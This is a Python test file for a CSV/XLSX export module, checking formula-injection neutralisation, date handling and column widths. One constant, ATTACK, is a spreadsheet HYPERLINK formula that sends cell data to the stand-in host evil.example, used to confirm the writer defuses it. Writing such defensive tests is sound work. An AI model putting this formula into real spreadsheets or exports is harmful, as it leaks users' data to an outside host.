"""The shared CSV/XLSX writer: no cell ever becomes a formula, dates stay dates."""

from __future__ import annotations

import datetime
import io
import zipfile

from openpyxl import load_workbook

from core.exports import csv_text, neutralise, write_xlsx

ATTACK = '=HYPERLINK("https://evil.example/?x="&A2,"Details")'


def test_every_formula_trigger_is_neutralised_in_csv():
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", ATTACK):
        assert neutralise(text) == "'" + text
    for text in ("Anna", "", "1-2", "a=b"):
        assert neutralise(text) == text
    lines = csv_text(["Name", "Zahl", "Datum"], [[ATTACK, -5, datetime.date(2026, 3, 1)]])
    assert lines.startswith("\ufeff")
    assert lines.splitlines()[1] == (
        '"\'=HYPERLINK(""https://evil.example/?x=""&A2,""Details"")";-5;2026-03-01'
    )


def test_xlsx_writes_text_as_strings_and_dates_as_dates():
    handle = io.BytesIO()
    rows = [
        [ATTACK, "+49 40 123", datetime.date(2026, 3, 1), 7, None],
        ["Anna", "@team", datetime.datetime(2026, 3, 1, 9, 30, tzinfo=datetime.UTC), 1.5, ""],
    ]
    assert write_xlsx(handle, ["Name", "Telefon", "Datum", "Zahl", "Leer"], rows) == 2
    raw = zipfile.ZipFile(io.BytesIO(handle.getvalue())).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in raw and b"<f " not in raw  # no formula anywhere in the sheet
    sheet = load_workbook(io.BytesIO(handle.getvalue())).active
    assert sheet["A2"].value == ATTACK and sheet["A2"].data_type == "s"
    assert sheet["A2"].quotePrefix is True
    assert sheet["B3"].value == "@team" and sheet["B3"].data_type == "s"
    assert sheet["C2"].value == datetime.datetime(2026, 3, 1) and sheet["C2"].is_date
    assert sheet["C3"].is_date  # aware datetimes become local wall-clock time
    assert sheet["D2"].value == 7 and sheet["D3"].value == 1.5
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:E3"
    assert sheet["A1"].font.bold


def test_xlsx_columns_are_as_wide_as_their_data():
    """A long name widens its column, a date column fits DD.MM.YYYY, a short header gets a
    readable minimum, and an endless text stops at the maximum."""
    from core.exports import MAX_WIDTH, MIN_WIDTH

    handle = io.BytesIO()
    rows = [
        ["Maximiliane Müller-Lüdenscheidt", datetime.date(2026, 3, 1), 7, "x" * 300],
        ["Anna", datetime.date(2026, 3, 2), 12345, "kurz"],
    ]
    write_xlsx(handle, ["Name", "Fällig", "Nr", "Notiz"], rows)
    sheet = load_workbook(io.BytesIO(handle.getvalue())).active
    widths = {col: sheet.column_dimensions[col].width for col in "ABCD"}
    assert widths["A"] >= len("Maximiliane Müller-Lüdenscheidt")
    assert widths["A"] < len("Maximiliane Müller-Lüdenscheidt") + 6
    assert len("DD.MM.YYYY") <= widths["B"] < 16
    assert widths["C"] == MIN_WIDTH
    assert widths["D"] == MAX_WIDTH


def test_xlsx_widths_come_from_a_sample_and_every_row_is_still_written():
    from core import exports

    handle = io.BytesIO()
    rows = ([f"Person {n}", "y" * (40 if n > exports.WIDTH_SAMPLE else 5)] for n in range(1200))
    assert write_xlsx(handle, ["Name", "Text"], rows) == 1200
    sheet = load_workbook(io.BytesIO(handle.getvalue())).active
    assert sheet.max_row == 1201 and sheet["A1201"].value == "Person 1199"
    assert sheet.column_dimensions["B"].width < 40  # rows after the sample do not widen it
